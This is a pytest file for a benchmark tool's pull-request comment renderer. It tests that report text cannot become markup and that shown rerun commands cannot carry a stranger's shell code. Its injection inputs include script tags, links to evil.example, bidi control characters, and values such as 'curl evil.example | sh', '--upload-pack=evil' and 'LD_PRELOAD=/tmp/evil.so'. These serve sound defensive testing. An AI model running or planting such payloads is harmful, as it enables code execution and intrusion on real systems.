"""The comment on a pull request, and annotations: no text of a report acts as markup."""

import re
import shlex
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.fakes.run_report import HOSTILE as OF_A_REPORT
from tests.report.test_json_reader import REPORT
from tfbench.model import Outcome, Reason
from tfbench.report.markdown import (
    LONGEST,
    MARK,
    GithubRun,
    annotation,
    code,
    headline_annotation,
    plain,
    render_comment,
    side_by_side,
    without_report,
)
from tfbench.report.markdown import render as render_markdown
from tfbench.report.summary import CaseTable
from tfbench.ruling import Entry, GateDecision, Result, Ruling

VERDICT = REPORT.verdicts[0]
SIDES = {"baseline": {"spec": "git:main"}, "contender": {"machine": {"processor": "AMD EPYC"}}}


def render(report, word, counts, verdicts, agreed=(), problems=(), tolerable=True, **named):
    """Render the comment on a report with this ruling."""
    entries = tuple((row, Entry(row.case.name, reason, day, up_to=1.1)) for row, reason, day in agreed)
    report = replace(report, verdicts=(*verdicts, *(row for row, *_ in agreed)))
    decision = GateDecision(Ruling(Result(word), counts, "", tuple(verdicts), tolerable), entries, tuple(problems))
    return render_comment(report, decision, **named)


def test_it_names_the_regression_and_the_next_steps():
    text = render(replace(REPORT, sides=SIDES), "regressed", "1 regressed", [VERDICT], link="https://example.org/run")
    lines = text.splitlines()
    assert lines[0] == MARK
    assert "### tfbench: regressed" in lines
    assert "1 case, policy standard, against `git:main`, on AMD EPYC, 12 s." in lines
    assert "### Regressions (1)" in lines
    assert any(line.startswith("- `b/test_x.py::test_x[a=1]`: regressed, ") for line in lines)
    assert "  - race it again: `pytest --benchmark --against git:main 'b/test_x.py::test_x[a=1]'`" in lines
    assert "Add an intended regression to the file of accepted regressions" in text
    assert "[Full report](https://example.org/run)" in lines


def test_only_a_regression_can_be_accepted():
    row = VERDICT.changed(outcome=Outcome.INCONCLUSIVE)
    text = render(replace(REPORT, sides=SIDES), "inconclusive", "1 inconclusive", [row])
    assert "  - race it again: `pytest --benchmark --against git:main" in text
    assert "accepted" not in text


def entry(why):
    return {
        "schema": "tfbench-profile/1", "case": VERDICT.case.name, "side": "contender", "folder": "f", "why": why,
    }  # fmt: skip


def test_profiles_name_the_cause():
    lines = ["profile: a step takes 2 ms instead of 1 ms; host compute grew most", "  MatMul +1 ms per step"]
    text = render(replace(REPORT, profiles=(entry(["profile: older"]), entry(lines))), "regressed", "1", [VERDICT])
    assert "  - profile: a step takes 2 ms instead of 1 ms; host compute grew most" in text
    assert "  - MatMul \\+1 ms per step" in text
    assert "older" not in text


def test_it_lists_accepted_regressions_and_those_to_remove():
    text = render(REPORT, "pass", "1 unchanged", [], [(VERDICT, "agreed in #12", "2027-01-31")], ["it ended"])
    assert "1 accepted" in text
    assert "2027\\-01\\-31" in text
    assert "- it ended" in text
    assert "#12" not in text  # it would be a reference


HOSTILE = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "@everyone look", "[click](https://evil.example)",
    "![x](https://evil.example/x.png)", "https://evil.example", "www.evil.example", "a | b | c", "`code`", "**bold**",
    "# heading\n- list", "</details>", "<!-- tfbench -->", "#1 GH-1", "a\r\n\r\n## b", "&lt;script&gt;", "||spoiler||", "$x^2$",
    "a\x1b[31m\u202eb\u2066c\u200bd\ud800e\x9bf\U000e0041",
]  # fmt: skip


@pytest.mark.parametrize("text", [*HOSTILE, OF_A_REPORT])
def test_no_text_of_a_report_is_markup(text):
    hostile = VERDICT.changed(name=f"a::{text}", metric=text, reason=Reason("code", text))
    report = replace(REPORT, sides={"baseline": {"spec": text}, "contender": {"machine": {"processor": text}}})
    report = replace(report, profiles=({**entry([text]), "case": hostile.case.name},))
    agreed = hostile.changed(rounds=1)
    made = render(replace(report, policy={"name": text}), "regressed", text, [hostile], [(agreed, text, text)], [text])
    outside = outside_of_code(made)
    assert (outside.count(MARK), outside.count("<details>")) == (1, 2)  # skipped and accepted
    rows = [line for line in made.splitlines() if line.startswith("- `")]
    assert len(rows) == 2  # the regression, and what is accepted
    outside_of_code(render_markdown(replace(report, verdicts=(hostile,), policy={"name": text})))


@pytest.mark.parametrize("text", [*HOSTILE, OF_A_REPORT, "\\| @everyone"])
def test_no_text_of_a_table_is_markup_or_ends_its_cell(text):
    made = side_by_side(CaseTable(text, [text], [[f"a{text}", text]]))
    outside_of_code(made)
    for line in made.splitlines()[-3:]:
        assert len(re.findall(r"(?:\\.|[^|\\])+", line.strip("|"))) == 2, line


def test_a_bar_in_a_list_has_no_backslash():
    row = VERDICT.changed(name="b/test_x.py::test_x[a|b]")
    text = render(REPORT, "regressed", "1 regressed", [row], [(row.changed(metric="flops"), "agreed", "2027-01-31")])
    assert text.count("- `b/test_x.py::test_x[a|b]`") == 2


def outside_of_code(made):
    """Return the text outside of spans of code, after it has been searched for markup."""
    outside = "".join(part for number, part in enumerate(made.split("`")) if number % 2 == 0)
    assert made.count("`") % 2 == 0
    for bad in ("<script", "<img", "](http", "://", "@everyone", "@all", "\n# "):
        assert bad not in outside
    assert not set("\x1b\u202e\u2066\u200b\ud800\x9b\U000e0041") & set(made)
    assert outside.count("</details>") == outside.count("<details>")
    return outside


@given(st.text())
def test_code_is_one_span_and_plain_text_has_no_tag(text):
    assert code(text).count("`") == 2
    assert "\n" not in code(text)
    assert "<" not in plain(text)


def test_it_is_never_longer_than_github_allows():
    many = [VERDICT.changed(reason=Reason("code", "&" * 20_000), name=f"a::{n}" * 300) for n in range(999)]
    text = render(REPORT, "regressed", "many", many)
    assert len(text) < 65_536
    assert len(text) <= LONGEST + 100


def test_an_annotation_stays_on_its_line():
    hostile = VERDICT.changed(reason=Reason("code", "a\n::error::b%"), name="a,b:c.py::x")
    assert (
        annotation(hostile, 7, hostile.name)
        == "::error file=a%2Cb%3Ac.py,line=7,title=regressed%3A x::a%0A::error::b%25"
    )
    assert annotation(VERDICT.changed(outcome=Outcome.INCONCLUSIVE, metric="graph_ops"), None, "") == (
        "::warning title=inconclusive graph_ops%3A test_x[a=1]::5.2% slower".replace("5.2%", "5.2%25")
    )


@pytest.mark.parametrize(
    ("spec", "case"),
    [
        ('git:main" "; curl evil.example | sh; "', "b/test_x.py::test_x"),
        ("git:main", 'b/test_x.py::test_x"; curl evil.example | sh #`'),
        ("git:main", "--rootdir=/tmp/evil::x"),
        ("git:--upload-pack=evil", "b/test_x.py::test_x"),
        ("python:/tmp/evil", "b/test_x.py::test_x"),
        ("env:LD_PRELOAD=/tmp/evil.so", "b/test_x.py::test_x"),
        ("git:main\x1b[2J", "b/test_x.py::test_x"),
    ],
)
def test_no_command_of_a_stranger_is_shown(spec, case):
    hostile = VERDICT.changed(name=case)
    text = render(replace(REPORT, sides={"baseline": {"spec": spec}}), "regressed", "1", [hostile])
    assert f"--against {spec}" not in text
    assert "race it again" not in text


@pytest.mark.parametrize(
    "name", ["t.py::x[$(id)]", "t.py::x['; id; ']", "t.py::x[a b&c|d]", "t.py::x[*?]", "t.py::x[!1]"]
)
def test_the_shell_reads_a_shown_command_as_its_words(name):
    odd = VERDICT.changed(name=name)
    text = render(replace(REPORT, sides=SIDES), "regressed", "1", [odd])
    (line,) = (line for line in text.splitlines() if line.startswith("  - race it again: "))
    shown = line.split("`")[1]
    assert shlex.split(shown) == ["pytest", "--benchmark", "--against", "git:main", name]


RUN = GithubRun("success", "0123456789abcdef", ["conftest.py"])


@pytest.mark.parametrize(
    ("conclusion", "word", "title", "disagree"),
    [
        ("success", "pass", "pass", False),
        ("success", "inconclusive", "inconclusive", False),
        ("success", "incomparable", "incomparable", True),
        ("success", "not gated", "not gated", True),
        ("success", "regressed", "regressed", True),
        ("failure", "regressed", "failed, regressed", False),
        ("failure", "pass", "failed", True),
    ],
)
def test_the_headline_is_a_pass_only_if_github_and_the_report_say_so(conclusion, word, title, disagree):
    text = render(REPORT, word, "why", [], run=replace(RUN, conclusion=conclusion))
    assert f"### tfbench: {title} (`0123456789ab`)\n" in text
    assert f"The report of the run says {word}: why." in text
    assert ("**The report and the conclusion of the run disagree.**" in text) is disagree
    too_few = render(REPORT, word, "why", [], run=replace(RUN, conclusion=conclusion), tolerable=False)
    assert ("conclusion of the run disagree" in too_few) is (disagree or word == "inconclusive")


def test_the_answer_on_the_run_is_annotated_with_its_word():
    ruling = Ruling(Result.INCONCLUSIVE, "3 inconclusive", "3 cases measured, none compared")
    line = "::warning title=tfbench%3A inconclusive::3 inconclusive; 3 cases measured, none compared"
    assert headline_annotation(ruling) == line


def test_a_change_of_the_gate_itself_is_flagged():
    assert "changes what the gate itself runs**, so its result needs a review: `conftest.py`" in render(
        REPORT, "pass", "1", [], run=RUN
    )
    none = without_report(RUN, "none")
    assert "`conftest.py`" in none
    assert "### tfbench: no report (`0123456789ab`)" in none  # although the run has succeeded
    assert "gate itself" not in render(REPORT, "pass", "1", [], run=replace(RUN, own_files=()))
